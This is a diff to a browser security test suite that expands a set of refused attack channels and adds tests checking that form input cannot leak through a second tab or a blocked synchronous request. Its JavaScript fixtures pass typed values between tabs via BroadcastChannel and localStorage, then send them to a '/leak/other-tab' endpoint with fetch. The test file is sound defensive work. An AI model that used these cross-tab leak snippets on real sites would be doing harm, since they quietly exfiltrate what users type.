@@ -11,7 +11,10 @@ from .zoo_browser import SECONDS, ZooBrowser
 from .zoo_server import ZooServer
 
 SECONDS_OF_SILENCE = 1.0
-REFUSED = {"old socket", "big", "keepalive", "post", "webtransport", "payment", "sign_in", "font"}
+REFUSED = {
+    *("old socket", "big", "keepalive", "post", "webtransport", "payment", "sign_in", "font", "sync xhr", "passkey"),
+    *("push", "interest group", "notification", "background fetch"),
+}
 """The ways of the attack whose failure its page hears of at once; the others wait, or are never told."""
 
 
@@ -149,3 +152,44 @@ def test_frame_of_another_host_can_be_touched(browser: ZooBrowser, quiet: ZooSer
     browser.run(visit.page, "() => { document.querySelector('#elsewhere').hidden = false }")
     browser.press(visit.page, "#elsewhere")
     wait_for(browser, lambda: "/leak/image" in leaks(quiet))
+
+
+LISTENS = """() => {
+    const tell = ({ data, newValue }) => {
+        fetch("/leak/other-tab?v=" + (data || newValue));
+        location.href = "/leak/other-tab-moved";
+    };
+    new BroadcastChannel("x").onmessage = tell;
+    addEventListener("storage", tell);
+    window.listens = true;
+}"""
+CALLS = """() => {
+    const channel = new BroadcastChannel("x");
+    addEventListener("input", ({ target }) => { channel.postMessage(target.value); localStorage.v = target.value; });
+}"""
+
+
+def test_second_tab_that_hears_of_it_says_nothing(browser: ZooBrowser, quiet: ZooServer) -> None:
+    """Through a channel between tabs, or what both of them store."""
+    visit = browser.visit("plain")
+    other = browser.window.open("https://support.zoo.test/bare.html", time.monotonic() + SECONDS)
+    wait_for(browser, lambda: browser.run(other, "() => document.readyState") == "complete")
+    browser.run(other, LISTENS)
+    browser.run(visit.page, CALLS)
+    browser.run(visit.page, "() => { document.querySelector('[name=company]').value = '' }")
+    visit.watch.refill()
+    stay(browser)
+    assert browser.run(other, "() => window.listens") is True
+    assert set(leaks(quiet)) <= {"again"}, "both tabs have asked for the same script"
+    browser.press(visit.page, "[name=company]")
+    wait_for(browser, lambda: "/leak/other-tab" in leaks(quiet))
+
+
+def test_page_that_waits_for_an_answer_and_does_nothing_else_is_filled_in(
+    browser: ZooBrowser, quiet: ZooServer
+) -> None:
+    """No person could touch it, so its request gets no answer."""
+    visit = browser.visit("attack.html?only=sync%20xhr&is=")
+    assert "NetworkError" in browser.run(visit.page, "() => window.errors")["sync xhr"]
+    assert visit.state["description"].startswith("Please move 2 license keys")
+    assert leaks(quiet) == []
